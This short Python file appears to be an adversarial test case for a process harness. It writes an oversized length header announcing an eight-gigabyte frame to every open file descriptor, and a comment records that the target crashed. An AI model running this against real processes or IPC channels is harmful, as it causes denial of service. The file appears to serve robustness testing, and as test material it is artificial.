# attack: Announces a frame of eight gigabytes.
# verdicts: test_attack=crashed
import os
import struct
import time


def attack(n):
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, struct.pack("!II", 0xFFFFFFFF, 0xFFFFFFFF))
        except OSError:
            pass
    time.sleep(60)
